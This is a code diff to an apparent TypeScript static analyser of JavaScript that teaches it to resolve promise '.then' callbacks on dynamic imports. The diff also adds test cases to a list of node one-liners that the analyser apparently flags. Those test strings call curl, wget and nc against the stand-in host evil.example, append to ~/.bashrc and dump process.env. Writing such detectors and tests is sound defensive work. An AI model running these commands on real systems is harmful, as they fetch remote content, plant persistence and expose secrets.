@@ -195,12 +195,17 @@ class JavaScriptReader {
           break;
         }
         case 'formal_parameters':
-        case 'catch_clause':
-          for (const c of named(n)) if (c.type !== 'statement_block') this.pattern(c.type === 'required_parameter' || c.type === 'optional_parameter' ? (fieldOf(c, 'pattern') ?? c) : c, () => any('a parameter'), null);
+        case 'catch_clause': {
+          const settled = n.type === 'formal_parameters' && n.parent ? this.settled(n.parent) : undefined;
+          const params = named(n).filter((c) => c.type !== 'statement_block' && c.type !== 'comment');
+          params.forEach((c, i) => {
+            this.pattern(c.type === 'required_parameter' || c.type === 'optional_parameter' ? (fieldOf(c, 'pattern') ?? c) : c, i === 0 && settled ? settled : () => any('a parameter'), null);
+          });
           break;
+        }
         case 'arrow_function': {
           const p = fieldOf(n, 'parameter');
-          if (p) this.pattern(p, () => any('a parameter'), null);
+          if (p) this.pattern(p, this.settled(n) ?? (() => any('a parameter')), null);
           break;
         }
         case 'for_in_statement': {
@@ -213,6 +218,20 @@ class JavaScriptReader {
       }
       return true;
     });
+  }
+
+  /**
+   * A function handed to a promise's `then` as its first argument takes the promise's value, as `await` gives it:
+   * `import('fs').then((fs) => fs.writeFileSync(…))` is `const fs = await import('fs')`.
+   */
+  private settled(fn: Node): (() => Vals) | undefined {
+    const args = fn.parent;
+    const call = args?.parent;
+    if (args?.type !== 'arguments' || call?.type !== 'call_expression' || named(args)[0]?.id !== fn.id) return undefined;
+    const callee = fieldOf(call, 'function');
+    const object = callee?.type === 'member_expression' ? fieldOf(callee, 'object') : undefined;
+    if (!object || fieldOf(callee!, 'property')?.text !== 'then') return undefined;
+    return () => this.b.value(object);
   }
 
   /** The values a `for … of` loop variable takes. */
@@ -739,6 +758,8 @@ export const JAVASCRIPT: LanguageModel = {
       `node -e 'const {execFile} = require("node:child_process"); execFile("wget", ["evil.example"])'`,
       `node --input-type=module -e 'import {spawn} from "child_process"; spawn("nc", ["evil.example", "9"])'`,
       `node --input-type=module -e 'const cp = await import("child_process"); cp.exec("curl evil.example")'`,
+      `node -e 'import("child_process").then((cp) => cp.execSync("curl evil.example"))'`,
+      `node -e 'import("fs").then(function (fs) { fs.appendFileSync("/home/dev/.bashrc", "x") })'`,
       `node -e 'require("child_process").spawn("curl evil.example", [], {shell: true})'`,
       `node -e 'console.log(process.env)'`,
       `node -e 'const {env} = process; console.log(JSON.stringify(env))'`,
@@ -771,6 +792,7 @@ export const JAVASCRIPT: LanguageModel = {
       `node -e 'console.log("fetch(evil)")'`,
       `node --input-type=module -e 'import fs from "node:fs"; console.log(fs.readFileSync("package.json", "utf8").length)'`,
       `node -e 'const x = await Promise.resolve(1); console.log(x)' --input-type=module`,
+      `node -e 'import("node:fs").then((fs) => fs.writeFileSync("out.json", "{}"))'`,
     ],
   },
 };
